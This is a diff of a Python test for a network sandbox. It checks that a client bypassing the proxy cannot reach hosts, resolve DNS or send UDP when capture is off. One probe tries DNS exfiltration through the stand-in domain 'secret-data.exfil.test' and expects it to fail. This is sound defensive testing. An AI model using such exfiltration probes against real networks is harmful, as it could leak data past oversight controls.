@@ -257,20 +257,24 @@ def test_refused_with_their_record(net: Net, url: str, host: str, port: int, bec
         assert record["address"] in ("10.99.0.1", "169.254.169.254")
 
 
-def test_clients_ignoring_the_proxy_find_no_route(net: Net) -> None:
+def test_clients_ignoring_the_proxy_find_no_route_without_capture(net: Net) -> None:
+    """Where the namespace refuses the stub resolver and capture (here: turned off), a client
+    that ignores the proxy variables finds no route and no DNS: fail closed, never open."""
+    def run_(*argv: str) -> tuple[RunOutcome, str, str]:
+        return _run(net, *argv, hooks=BrokerHooks(resolver=net.resolver, capture=False))
+
     seen: list = []
-    _run(net, "true", hooks=BrokerHooks(resolver=net.resolver, on_start=seen.append))
-    if seen and seen[0].capture:
-        pytest.skip("this path captures them (stub resolver, capture listeners): see test_netstub_sandbox.py")
-    outcome, out, err = _run(net, "python3", "x.py", "curl", "-sS", "--max-time", "10", "--noproxy", "*",
-                             f"http://{net.host.address}/hello.txt")
+    _run(net, "true", hooks=BrokerHooks(resolver=net.resolver, on_start=seen.append, capture=False))
+    assert seen and not seen[0].capture
+    outcome, out, err = run_("python3", "x.py", "curl", "-sS", "--max-time", "10", "--noproxy", "*",
+                         f"http://{net.host.address}/hello.txt")
     assert outcome.exit_status != 0 and "hello" not in out
     assert "unreachable" in err.lower() or "couldn't connect" in err.lower(), err
-    outcome, out, _ = _run(net, "python3", "probe.py", "direct", net.host.address, "80")
+    outcome, out, _ = run_("python3", "probe.py", "direct", net.host.address, "80")
     assert outcome.exit_status == 3 and "unreachable" in out.lower(), out
-    outcome, out, _ = _run(net, "python3", "probe.py", "dns", "secret-data.exfil.test")  # no DNS inside
+    outcome, out, _ = run_("python3", "probe.py", "dns", "secret-data.exfil.test")  # no DNS inside
     assert outcome.exit_status == 3 and "gaierror" in out, out
-    outcome, out, _ = _run(net, "python3", "probe.py", "udp", "8.8.8.8")
+    outcome, out, _ = run_("python3", "probe.py", "udp", "8.8.8.8")
     assert outcome.exit_status == 3 and "unreachable" in out.lower(), out
     assert _net_records(net, "exfil.test") == [] and _net_records(net, "8.8.8.8") == []  # nothing left
 
